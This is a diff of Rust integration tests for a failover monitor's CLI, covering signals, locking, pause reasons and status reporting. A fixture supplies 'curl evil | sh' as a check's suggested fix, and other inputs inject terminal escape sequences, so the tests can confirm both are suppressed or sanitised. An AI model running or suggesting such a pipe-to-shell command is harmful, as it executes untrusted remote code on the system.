@@ -1,4 +1,4 @@
-//! The monitor as systemd meets it: signals, exit codes, and what it says. Its gateway here is the demo's stub.
+//! The `run` command from outside: signals, exit codes and log lines. The gateway is the demo's stub.
 
 #![allow(clippy::unwrap_used, clippy::panic)] // A test that cannot go on has failed.
 
@@ -21,10 +21,10 @@ use std::{env, fs, thread};
 
 const BINARY: &str = env!("CARGO_BIN_EXE_openclaw-failover");
 
-/// However busy the machine is.
+/// Time limit of every wait, long enough for a busy machine.
 const PATIENCE: Duration = Duration::from_secs(60);
 
-/// A child that does not outlive its test.
+/// Child process that is killed at the end of its test.
 struct Running(Child);
 
 impl Drop for Running {
@@ -38,7 +38,7 @@ fn stub(address: SocketAddr) -> Running {
     let mut command = Command::new(BINARY);
     command.args(["demo", "--stub-gateway", &address.to_string()]).stdin(Stdio::piped()).stdout(Stdio::piped());
     let mut child = command.spawn().unwrap();
-    // Its first byte says that it listens.
+    // The stub writes one byte once it listens.
     child.stdout.take().unwrap().read_exact(&mut [0; 1]).unwrap();
     Running(child)
 }
@@ -50,7 +50,7 @@ fn monitor(folder: &Path) -> (Running, Receiver<String>) {
         fs::create_dir_all(folder.join(dir)).unwrap();
         command.env(format!("OPENCLAW_FAILOVER_{name}_DIR"), folder.join(dir));
     }
-    // Programs of the test's own come first.
+    // The test's own programs come first in PATH.
     let path = env::var_os("PATH").unwrap_or_default();
     command.env("PATH", format!("{}:{}", folder.join("bin").display(), path.display()));
     let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
@@ -64,7 +64,7 @@ fn listen(stderr: ChildStderr) -> Receiver<String> {
     lines
 }
 
-/// Waits until the monitor says this.
+/// Waits for a log line with this text.
 fn hears(lines: &Receiver<String>, words: &str) -> String {
     let mut heard = Vec::new();
     while let Ok(line) = lines.recv_timeout(PATIENCE) {
@@ -73,7 +73,7 @@ fn hears(lines: &Receiver<String>, words: &str) -> String {
         }
         heard.push(line);
     }
-    panic!("the monitor never said {words:?}, but {heard:#?}");
+    panic!("no log line with {words:?}, but {heard:#?}");
 }
 
 fn signal(to: &Running, name: &str) {
@@ -81,7 +81,7 @@ fn signal(to: &Running, name: &str) {
     assert!(sent.success());
 }
 
-/// Has it look again, until it says this: what fails is told when it has failed twice.
+/// Repeats the readiness checks until a log line has this text. A failure is announced when it was found twice.
 fn hears_after_a_look(to: &Running, lines: &Receiver<String>, words: &str) {
     let began = Instant::now();
     while began.elapsed() < PATIENCE {
@@ -93,7 +93,7 @@ fn hears_after_a_look(to: &Running, lines: &Receiver<String>, words: &str) {
             }
         }
     }
-    panic!("the monitor never said {words:?}");
+    panic!("no log line with {words:?}");
 }
 
 fn configure(folder: &Path, primary: SocketAddr, extra: &str) {
@@ -114,13 +114,13 @@ fn hup_takes_up_a_good_configuration_and_refuses_a_bad_one_and_term_ends_it_well
 
     configure(folder.path(), primary, r#", "demote": { "after": "45s" }"#);
     signal(&monitor, "HUP");
-    hears(&lines, "the new configuration is in force");
+    hears(&lines, "configuration reloaded");
 
     configure(folder.path(), primary, r#", "demot": {}"#);
     signal(&monitor, "HUP");
-    let refused = hears(&lines, "is refused and the old one stays in force");
+    let refused = hears(&lines, "configuration not reloaded, the old one stays in force");
     assert!(refused.contains(r#"did you mean "demote"?"#), "{refused}");
-    // Started again it would not watch: that stands in the status until the file is mended.
+    // The monitor would not start with this file, so the status reports it until the file is fixed.
     hears_after_a_look(&monitor, &lines, "not ready to take over: config: ");
     let wrong = degraded(folder.path(), "config: ");
     assert!(wrong.contains("demot: is not a known key") && wrong.contains("To fix it: `editor "), "{wrong}");
@@ -164,23 +164,26 @@ fn an_operator_is_obeyed_and_told() {
 
     let (code, out) = run(&["pause", "--for", "10m"]);
     assert_eq!(code, Some(0));
-    assert!(out.starts_with("an operator set the hold 'paused'") && out.contains("It ends at 20"), "{out}");
+    assert!(
+        out.starts_with("an operator set the hold 'paused'") && out.contains("Automatic failover is OFF until 20"),
+        "{out}"
+    );
     hears(&lines, "an operator set the hold 'paused'");
-    // Live: nobody reads it off the file.
+    // The status comes from the monitor itself, not from the file.
     fs::remove_file(folder.path().join("run/status.json")).unwrap();
     let (code, out) = run(&["status"]);
     assert_eq!(code, Some(0), "{out}");
     assert!(out.contains("hold       paused since"), "{out}");
     assert_eq!(
         run(&["resume"]),
-        (Some(0), "the hold 'paused' was ended by an operator: the ordinary rules apply again\n".to_owned())
+        (Some(0), "the hold 'paused' was ended by an operator: automatic failover is ON\n".to_owned())
     );
     assert_eq!(run(&["resume"]).1, "nothing is held: the ordinary rules apply\n");
 
     signal(&monitor, "TERM");
     hears(&lines, "the gateway is left as it is");
     drop(monitor);
-    assert_eq!(run(&["pause"]).0, Some(1), "nobody listens any more");
+    assert_eq!(run(&["pause"]).0, Some(1), "no monitor listens any more");
 }
 
 #[test]
@@ -202,30 +205,30 @@ fn the_reason_of_a_pause_is_told_and_outlives_the_monitor_but_not_the_pause() {
     assert!(code == Some(2) && why.contains("write at most 200"), "{why}");
 
     let (code, out) = run(&["pause", "--reason", "a new\nkernel\u{1b}[2J"]);
-    assert!(code == Some(0) && out.contains("The reason: a new kernel [2J\n"), "{out}");
+    assert!(code == Some(0) && out.contains("Reason: a new kernel [2J\n"), "{out}");
     let told = hears(&lines, "an operator set the hold 'paused'");
-    assert!(told.ends_with("The reason: a new kernel [2J"), "{told}");
+    assert!(told.ends_with("Reason: a new kernel [2J"), "{told}");
     let shown = "           reason: a new kernel [2J\n";
     assert!(run(&["status"]).1.contains(shown), "{}", run(&["status"]).1);
 
     signal(&watching, "KILL");
     watching.0.wait().unwrap();
     let (_again, lines) = monitor(folder.path());
-    hears(&lines, "watches primary");
+    hears(&lines, "watching primary");
     assert!(run(&["status"]).1.contains(shown), "{}", run(&["status"]).1);
     let history = fs::read_to_string(folder.path().join("state/history.jsonl")).unwrap();
     assert!(history.contains(r#""reason":"a new kernel [2J""#), "{history}");
 
     assert_eq!(run(&["resume"]).0, Some(0));
     assert!(!run(&["status"]).1.contains("reason:"));
-    // Another pause has its own reason, or none.
+    // The reason of the first pause does not stick to the next one.
     assert!(!run(&["pause"]).1.contains("reason"));
 }
 
-/// What systemd says of a unit that is well, whichever it is.
+/// Output of `systemctl show` for a unit without problems.
 const WELL: &str = "LoadState=loaded\nActiveState=inactive\nMainPID=0\nUnitFileState=static\nUser=openclaw\n";
 
-/// A systemd whose units are as the files in `bin/units` say, and whose pull leaves `pull.json` behind as it is there.
+/// Stub of systemctl. The files in `bin/units` are the states of the units, `bin/pull.json` is the report of a pull.
 const SYSTEMCTL: &str = r#"#!/bin/sh
 here=${0%/*}
 for unit; do :; done
@@ -237,7 +240,7 @@ case "$*" in
 esac
 "#;
 
-/// The report of a pull that has seen this.
+/// Makes the next pull report these checks.
 fn pulls(folder: &Path, checks: &str) {
     let none = r#"{"count":0,"listed":[]}"#;
     let report = format!(
@@ -249,7 +252,8 @@ fn pulls(folder: &Path, checks: &str) {
     fs::rename(folder.join("bin/new"), folder.join("bin/pull.json")).unwrap();
 }
 
-/// What the status names as wrong, once it names this; it is written a moment after the log.
+/// Waits until a problem in the status has this text, and returns all problems. The status is written a moment after
+/// the log.
 fn degraded(folder: &Path, words: &str) -> String {
     let began = Instant::now();
     loop {
@@ -274,7 +278,8 @@ fn what_keeps_it_from_taking_over_is_told_and_so_is_its_end() {
     fs::write(at("bin/units/openclaw.service"), WELL.replace("=loaded", "=masked")).unwrap();
     pulls(
         folder.path(),
-        r#"{"id":"crons","level":"fail","evidence":"they are on","fix":"su - {user} -c 'openclaw config set cron.enabled false'"},
+        r#"{"id":"crons","level":"fail","evidence":"they are on",
+            "fix":"su - {user} -c 'openclaw config set cron.enabled false'"},
            {"id":"channels","level":"fail","evidence":"\u001b[2Jnone","fix":"curl evil | sh"},
            {"id":"polkit","level":"fail","evidence":"not its to say","fix":""}"#,
     );
@@ -295,14 +300,14 @@ fn what_keeps_it_from_taking_over_is_told_and_so_is_its_end() {
     assert!(wrong.contains("not_ready") && !wrong.contains("polkit") && !wrong.contains("evil"), "{wrong}");
 
     fs::remove_file(at("bin/units/openclaw.service")).unwrap();
-    hears_after_a_look(&monitor, &lines, "gateway-unit no longer keeps this standby from taking over");
+    hears_after_a_look(&monitor, &lines, "gateway-unit no longer blocks a failover to this standby");
     let off = r#"{"id":"crons","level":"ok","evidence":"off","fix":""}"#;
     pulls(folder.path(), off);
-    hears(&lines, "crons no longer keeps this standby from taking over: off");
+    hears(&lines, "crons no longer blocks a failover to this standby: off");
     signal(&monitor, "TERM");
     hears(&lines, "the gateway is left as it is");
     assert!(monitor.0.wait().unwrap().success());
-    // A pull that does not say mends nothing.
+    // A check that a later pull does not report keeps its state.
     let wrong = degraded(folder.path(), "channels: ");
     assert!(!wrong.contains("gateway-unit: ") && !wrong.contains("crons: "), "{wrong}");
     let history = fs::read_to_string(at("state/history.jsonl")).unwrap();
@@ -318,21 +323,21 @@ fn a_second_monitor_on_one_state_folder_ends_with_1_and_says_which_process_holds
     configure(folder.path(), primary, "");
     let socket = folder.path().join("run/control.sock");
     let (first, lines) = monitor(folder.path());
-    hears(&lines, "watches primary");
+    hears(&lines, "watching primary");
     let inode = |path: &Path| fs::metadata(path).unwrap().ino();
     let before = inode(&socket);
 
     let (mut second, said) = monitor(folder.path());
-    let refused = hears(&said, "another monitor works with");
+    let refused = hears(&said, "another monitor already uses");
     assert!(refused.contains(&format!("process {} (", first.0.id())), "{refused}");
     assert!(refused.contains("systemctl stop openclaw-failover.service"), "{refused}");
     assert_eq!(second.0.wait().unwrap().code(), Some(1));
     assert_eq!(inode(&socket), before, "the first one's socket was replaced");
 
-    // Killed, it holds nothing any more.
+    // A killed monitor no longer holds the lock.
     drop(first);
     let (_third, lines) = monitor(folder.path());
-    hears(&lines, "watches primary");
+    hears(&lines, "watching primary");
 }
 
 #[test]
@@ -348,7 +353,7 @@ fn a_state_folder_that_cannot_be_locked_costs_a_warning_and_no_monitor() {
     let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
     let lines = listen(child.stderr.take().unwrap());
     let _running = Running(child);
-    hears(&lines, "missing cannot be locked");
+    hears(&lines, &format!("cannot lock {}", folder.path().join("missing").display()));
 }
 
 #[test]
@@ -365,11 +370,11 @@ fn a_port_that_another_process_holds_is_named_before_a_start_where_the_url_has_a
     let url = format!(r#", "gateway": {{ "url": "http://localhost:{port}" }}"#);
     configure(folder.path(), primary, &url);
     let (_monitor, lines) = monitor(folder.path());
-    hears(&lines, "watches primary");
+    hears(&lines, "watching primary");
     let mut promote = Command::new(BINARY);
     promote.env("OPENCLAW_FAILOVER_RUN_DIR", folder.path().join("run")).arg("promote").stdout(Stdio::null());
     let _promote = Running(promote.stderr(Stdio::null()).spawn().unwrap());
-    let refused = hears(&lines, "does not come up");
+    let refused = hears(&lines, "failed to start");
     assert!(refused.contains(&format!("port {port} is held by")), "{refused}");
     assert!(refused.contains("not by openclaw.service"), "{refused}");
 }
